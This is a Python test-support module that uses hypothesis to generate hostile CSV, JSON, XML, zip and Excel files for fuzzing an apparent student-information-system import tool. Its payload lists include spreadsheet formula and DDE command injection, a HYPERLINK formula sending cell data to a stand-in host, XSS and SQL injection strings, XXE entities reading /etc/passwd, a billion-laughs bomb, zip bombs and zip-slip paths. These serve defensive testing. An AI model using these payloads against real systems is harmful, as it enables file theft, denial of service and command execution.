"""Hostile files of every kind that a SIS's server may hold one day, drawn by hypothesis."""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

from matchpoint.profile import Profile

PERSON = "Zwillingsdorf"
"""Stands in most files for what may be in no error message."""
COLUMNS = ["ID", "FIRST", "LAST", "GROUP", "BORN", "CARD", "EMAIL", "NOTE"]
_SECTIONS: dict[str, dict[str, Any]] = {
    "csv": {"type": "csv"},
    "semicolon": {"type": "csv", "delimiter": ";", "quote": None, "encoding": "auto", "skip_lines": 1},
    "latin": {"type": "csv", "encoding": "latin-1", "comment": "#", "escape": "\\"},
    "utf16": {"type": "csv", "encoding": "utf-16", "trailer": "^TRAILER"},
    "fixed": {
        "type": "fixed_width",
        "columns": [{"name": name, "start": 1 + 12 * place, "width": 12} for place, name in enumerate(COLUMNS)],
    },
    "json": {"type": "json"},
    "lines": {"type": "json", "lines": True},
    "excel": {"type": "excel"},
}
_MAPPING = {
    "primary_id": {"from": "ID", "convert": ["trim"], "required": True},
    "first_name": "FIRST",
    "last_name": {"from": "LAST", "convert": ["trim"]},
    "user_group": {"from": "GROUP", "convert": [{"crosswalk": "groups"}]},
    "birth_date": {"from": "BORN", "convert": [{"date": "%Y-%m-%d"}]},
    "identifiers": [{"id_type": "BARCODE", "value": "CARD"}],
    "emails": [{"types": ["work"], "preferred": True, "email_address": "EMAIL"}],
    "notes": [{"note_type": "OTHER", "note_text": "NOTE"}],
}


def _profile(section: dict[str, Any]) -> Profile:
    plain = section["type"] == "alma_xml"
    more = {} if plain else {"mapping": _MAPPING, "crosswalks": {"groups": {"UG": "UNDERGRAD"}}}
    return Profile.model_validate(
        {
            "code": "people",
            "name": "People",
            "sis_type": "any",
            "connection": "sis",
            "format": section,
            "actions": {"synchronize": {"path": "in", "match_points": ["primary_id", "BARCODE"]}},
            **more,
        }
    )


PROFILES = {name: _profile(section) for name, section in {**_SECTIONS, "xml": {"type": "alma_xml"}}.items()}


@dataclass(frozen=True)
class Hostile:
    """One file: which profile it is sent to, its name on the server, its content."""

    profile: str
    name: str
    content: bytes


# --- values -----------------------------------------------------------------------------------------

_NASTY = [
    '=HYPERLINK("http://x.example/?"&A1)', "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "'=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "|a|b|", "](javascript:alert(1))", "{{7*7}}", "${7}",
    "'; DROP TABLE users; --", "\x00", "a\x00b", "\x01\x08\x0b\x1b[2J", "\x7f\x85\u2028", "\u202eevil", "\ufeff",
    "\ufffe\uffff", "\U0001f4a9" * 3, "a\u0300" * 40, "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    '"', '""', '"a', 'a"b"c', ",", ";", "\n", "\r\n", "a\nb", "\\", "\\\\\"", "#x", "TRAILER", "null", "NaN", "1e999",
    "0000-00-00", "9999-99-99", "2026-02-30", "UG", "%s%n%x", "../../etc/passwd", "x" * 300, "é" * 256, " ", "",
]  # fmt: skip
_values = st.one_of(
    st.sampled_from(_NASTY),
    st.sampled_from([PERSON, "UG", "2000-01-02", "a@example.edu"]),
    st.text(max_size=8),
    st.text(st.characters(max_codepoint=0x9F), max_size=6),
    st.builds(lambda one, times: one * times, st.sampled_from(["A", "=1", '"', "\x00"]), st.integers(1, 2_000)),
)
_rows = st.lists(st.lists(_values, min_size=0, max_size=12), min_size=0, max_size=6)
_whole = st.lists(st.lists(_values, min_size=len(COLUMNS), max_size=len(COLUMNS)), min_size=1, max_size=6)
_headers = st.one_of(
    *[st.just(COLUMNS)] * 4,
    st.lists(_values, max_size=10).map(lambda more: [*COLUMNS, *more]),
    st.integers(100, 1_000).map(lambda n: [*COLUMNS, *(f"=X{one}" for one in range(n))]),
    st.lists(_values, min_size=1, max_size=8),
)
_encodings = st.sampled_from([*["utf-8"] * 8, "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-be", "utf-32"])
_names = st.one_of(
    st.sampled_from(
        ["people.csv", "=cmd.csv", "<script>.csv", "a|b.csv", "x" * 250 + ".csv", "ü" * 120 + ".csv", "people", "..."]
    ),
    st.text(st.characters(exclude_characters="/\x00", exclude_categories=["Cs"]), min_size=1, max_size=40).filter(
        lambda name: name not in {".", ".."}
    ),
)


def _encoded(text: str, encoding: str) -> bytes:
    return text.encode(encoding, "replace")


# --- texts ------------------------------------------------------------------------------------------


def _csv(header: list[str], rows: list[list[str]], quoting: bool, delimiter: str, before: str) -> str:
    out = io.StringIO(newline="")
    if quoting:
        csv.writer(out, delimiter=delimiter).writerows([header, *rows])
        return before + out.getvalue()
    return before + "".join(delimiter.join(row) + "\n" for row in [header, *rows])


_csv_text = st.builds(
    _csv,
    _headers,
    st.one_of(_whole, _whole, _rows),
    st.sampled_from([True, True, False]),
    st.sampled_from(",,,;"),
    st.sampled_from(["", "", "", "\n", "x\n"]),
)
_long_field = st.sampled_from(
    [
        ",".join(COLUMNS) + "\n" + before + letter * size
        for letter, size in (("A", 10 << 20), ("\x00", 10 << 20), (",", 1 << 20), ("\n", 50_000))
        for before in ("", '"')
    ]
)
"""Fields of ten megabytes, a million of them, and line upon line with nothing in it."""
_readable = st.builds(
    lambda header, rows: _encoded(_csv(header, rows, True, ",", ""), "utf-8"),
    st.one_of(st.just(COLUMNS), st.integers(1, 900).map(lambda n: [*COLUMNS, *(f"=X{one}" for one in range(n))])),
    st.one_of(_whole, _rows),
)
_texts = st.one_of(
    *[_readable] * 4,
    st.builds(_encoded, _csv_text, _encodings),
    st.builds(_encoded, _csv_text, _encodings),
    st.builds(lambda one, two: _encoded(one, "utf-8") + _encoded(two, "latin-1"), _csv_text, _csv_text),
    st.builds(lambda text, cut: _encoded(text, "utf-16")[:cut], _csv_text, st.integers(0, 400)),
    st.binary(max_size=300),
    st.builds(lambda head, tail: head.encode() + tail, st.just(",".join(COLUMNS) + "\n"), st.binary(max_size=300)),
)
_fixed = st.builds(
    lambda rows, encoding: _encoded("\n".join("".join(f"{one:12}" for one in row) for row in rows), encoding),
    st.one_of(_whole, _rows),
    _encodings,
)

# --- JSON -------------------------------------------------------------------------------------------

_json_values = st.recursive(
    st.one_of(
        _values,
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(),
        st.sampled_from([10**400, -(10**30), PERSON]),
    ),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=4), inner, max_size=3)),
    max_leaves=6,
)
_records = st.one_of(st.fixed_dictionaries({name: _json_values for name in COLUMNS}), _json_values)
_raw_json = st.sampled_from(
    [
        '[{"ID": "\\ud800", "LAST": "Zwillingsdorf"}]',
        '[{"ID": "a\\u0000b", "FIRST": "Zwillingsdorf"}]',
        '[{"ID": ' + "[" * 20_000 + "]" * 20_000 + "}]",
        "[" * 50_000,
        '{"a":' * 50_000,
        '[{"ID": ' + "9" * 20_000 + "}]",
        '[{"ID": 1e400, "LAST": NaN}]',
        '[{"ID": 1e1000000000, "LAST": "x"}]',
        '[{"ID": "x", "ID": "y"}]',
        '[{"ID": "' + "Zwillingsdorf" * 10,
        "[]",
        "{}",
        "null",
        '"Zwillingsdorf"',
        '[null, 1, "Zwillingsdorf", []]',
    ]
)


def _json(records: list[Any], lines: bool) -> str:
    if lines:
        return "".join(json.dumps(one, default=str) + "\n" for one in records)
    return json.dumps(records, default=str)


_json_text = st.one_of(st.builds(_json, st.lists(_records, max_size=5), st.booleans()), _raw_json)
_jsons = st.one_of(
    st.builds(_encoded, _json_text, _encodings),
    st.builds(lambda text, cut: text.encode()[:cut], _json_text, st.integers(0, 200)),
    st.builds(lambda one, two: one.encode() + two, _json_text, st.binary(max_size=40)),
)

# --- XML --------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_DOCTYPES = [
    f'<!DOCTYPE users [<!ENTITY a0 "ha">{_LAUGHS}]>',
    '<!DOCTYPE users [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE users [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
    '<!DOCTYPE users [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>',
    '<!DOCTYPE users SYSTEM "file:///dev/zero">',
    f'<!DOCTYPE users [<!ENTITY x "{"A" * 5_000}">]>',
    "<!DOCTYPE users>",
]
_INSIDE = [
    "&a9;", "&x;", "&x;" * 500, "&amp;",
    "&#0;", "&#1;", "<b/>", "<![CDATA[=1+1]]>", "<!-- x -->", "<?x y?>", "=1+1", PERSON,
    "<a>" * 500 + "</a>" * 500, "x" * 20_000, "\x00", "\x01", "&#xD800;", "<xi:include href='/etc/passwd'/>", "",
]  # fmt: skip
_HEADS = [
    "",
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="utf-16"?>',
    '<?xml version="1.1"?>',
    "\ufeff",
    " ",
]


def _xml(head: str, doctype: str, parts: list[str], root: str, cut: int | None) -> bytes:
    users = "".join(
        f"<user><primary_id>{part[:50]}{number}</primary_id><last_name>{part}</last_name><status>{part}</status>"
        f"<user_identifiers><user_identifier><id_type>BARCODE</id_type><value>{part}</value></user_identifier>"
        "</user_identifiers></user>"
        for number, part in enumerate(parts)
    )
    text = f"{head}{doctype}<{root}>{users}</{root}>"
    return text.encode("utf-8", "replace")[:cut]


_xmls = st.one_of(
    st.builds(
        _xml,
        st.sampled_from(_HEADS),
        st.sampled_from(["", "", *_DOCTYPES]),
        st.lists(st.one_of(st.sampled_from(_INSIDE), _values), max_size=4),
        st.sampled_from(["users", "users", "user", "people", "x:users"]),
        st.one_of(st.none(), st.integers(0, 500)),
    ),
    st.binary(max_size=200),
    st.builds(lambda depth: b"<users>" + b"<user>" * depth, st.sampled_from([10, 300, 50_000])),
)

# --- zips and workbooks -------------------------------------------------------------------------------

_MEMBERS = [
    "people.csv", "../people.csv", "../../../../tmp/x.csv", "/etc/passwd", "C:\\x.csv", "..\\x.csv", "a/../../x.csv",
    "", ".", "..", "/", "a//b.csv", "./x.csv", "CON", "x\n.csv", "x\x00.csv", "\u202ex.csv", "ü.csv",
    "x" * 400 + ".csv", "=1.csv", "<script>.csv", "__MACOSX/x.csv", ".hidden", "a/b/c/people.csv", "people.zip",
    "[Content_Types].xml",
    "~",
]  # fmt: skip
_METHODS = st.sampled_from([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])


def _zip(members: list[tuple[str, bytes]], method: int, links: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members:
            info = zipfile.ZipInfo("x")
            info.filename = name
            info.compress_type = method
            info.external_attr = (0o120777 if links else 0o100644) << 16
            archive.writestr(info, content)
    return out.getvalue()


def _damaged(content: bytes, changes: list[tuple[int, int]], cut: int) -> bytes:
    out = bytearray(content)
    for place, value in changes:
        out[place % len(out)] = value
    return bytes(out[: len(out) - cut % len(out)])


def _lying(content: bytes, size: int) -> bytes:
    """Let the directory of a zip say another size than its members have."""
    place = content.rfind(b"PK\x01\x02")
    return content[: place + 24] + struct.pack("<I", size & 0xFFFFFFFF) + content[place + 28 :]


def _zips(contents: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    bomb = st.sampled_from([1 << 16, 4 << 20]).map(lambda size: (",".join(COLUMNS) + "\n").encode() + b"0" * size)
    link = st.sampled_from([b"/etc/passwd", b"../../outside"])
    member = st.tuples(st.sampled_from(_MEMBERS), st.one_of(contents, contents, bomb, link))
    plain = st.builds(_zip, st.lists(member, max_size=4), _METHODS, st.booleans())
    one = st.builds(lambda content: _zip([("people.csv", content)], zipfile.ZIP_DEFLATED, links=False), contents)
    many = st.integers(45, 60).map(
        lambda n: _zip([(f"{k}.csv", b"x") for k in range(n)], zipfile.ZIP_STORED, links=False)
    )
    changes = st.lists(st.tuples(st.integers(0, 5_000), st.integers(0, 255)), max_size=6)
    return st.one_of(
        plain,
        one,
        many,
        st.builds(_damaged, st.one_of(plain, one), changes, st.integers(0, 60)),
        st.builds(_lying, one, st.sampled_from([0, 1, 1 << 20, 0xFFFFFFFE, 0xFFFFFFFF])),
        st.builds(lambda inner: _zip([("people.csv", inner)], zipfile.ZIP_STORED, links=False), plain),
    )


_SHEET = "xl/worksheets/sheet1.xml"
_PARTS = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
    'PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override '
    'PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="People" '
    'sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>',
    "xl/sharedStrings.xml": '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>x</t></si></sst>',
}
_CELLS = [
    '<c t="inlineStr"><is><t>{}</t></is></c>', '<c t="str"><f>1+1</f><v>{}</v></c>', '<c t="s"><v>0</v></c>',
    '<c t="s"><v>99</v></c>', '<c t="s"><v>-9</v></c>', '<c t="s"><v>x</v></c>', '<c t="n"><v>1e999</v></c>',
    '<c t="n"><v>x</v></c>', '<c t="d"><v>{}</v></c>', '<c t="b"><v>7</v></c>', '<c t="e"><v>#REF!</v></c>',
    '<c r="XFD1"><v>1</v></c>', '<c r="A0"><v>1</v></c>', '<c r="??"><v>1</v></c>', '<c s="99"><v>1</v></c>', "<c/>",
    '<c t="what"><v>{}</v></c>', "<c><v>&x;</v></c>", '<c t="n"><v>99999999999999999999</v></c>',
]  # fmt: skip


def _book(rows: list[list[tuple[str, str]]], doctype: str, changed: dict[str, str | None]) -> bytes:
    header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in COLUMNS)
    body = "".join(
        "<row>" + "".join(cell.replace("{}", _escaped(value)) for cell, value in row) + "</row>" for row in rows
    )
    sheet = (
        f'{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>{header}'
        f"</row>{body}</sheetData></worksheet>"
    )
    parts = {**_PARTS, _SHEET: sheet, **changed}
    members = [(name, text.encode("utf-8", "replace")) for name, text in parts.items() if text is not None]
    return _zip(members, zipfile.ZIP_DEFLATED, links=False)


def _escaped(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;")


_cells = st.tuples(st.sampled_from(_CELLS), _values)
_books = st.one_of(
    st.builds(
        _book,
        st.lists(st.lists(_cells, max_size=9), max_size=4),
        st.sampled_from(["", "", "", *(one.replace("users", "worksheet") for one in _DOCTYPES)]),
        st.dictionaries(
            st.sampled_from([*_PARTS, _SHEET, "xl/styles.xml", "docProps/core.xml"]),
            st.sampled_from([None, "", "<x", "<x/>", *_DOCTYPES, f"<sst>{'<si><t>x</t></si>' * 300_000}</sst>"]),
            max_size=1,
        ),
    ),
    st.builds(
        lambda rows, changes, cut: _damaged(_book(rows, "", {}), changes, cut),
        st.lists(st.lists(_cells, max_size=9), max_size=4),
        st.lists(st.tuples(st.integers(0, 5_000), st.integers(0, 255)), max_size=6),
        st.integers(0, 60),
    ),
    st.binary(max_size=200),
)

# --- files ------------------------------------------------------------------------------------------

Kind = Callable[[], st.SearchStrategy[Hostile]]


def _to(profiles: list[str], contents: st.SearchStrategy[bytes]) -> st.SearchStrategy[Hostile]:
    return st.builds(Hostile, st.sampled_from(profiles), _names, contents)


KINDS: dict[str, st.SearchStrategy[Hostile]] = {
    "delimited": _to(["csv", "csv", "csv", "semicolon", "latin", "utf16"], _texts),
    "long fields": _to(["csv", "latin"], _long_field.map(str.encode)),
    "fixed width": _to(["fixed"], st.one_of(_fixed, _texts)),
    "json": _to(["json", "lines"], _jsons),
    "xml": _to(["xml"], _xmls),
    "zips": _to(["csv", "csv", "semicolon"], _zips(_texts)),
    "zips of xml": _to(["xml"], _zips(_xmls)),
    "workbooks": _to(["excel"], _books),
    "zips of workbooks": _to(["excel"], _zips(_books)),
    "anything to anybody": _to(list(PROFILES), st.one_of(_texts, _jsons, _xmls, _zips(_texts), _books)),
}
"""Every kind of hostile file, by name."""
FEW = {"long fields": 30}
"""How many are enough of the kinds that have only a few different files."""
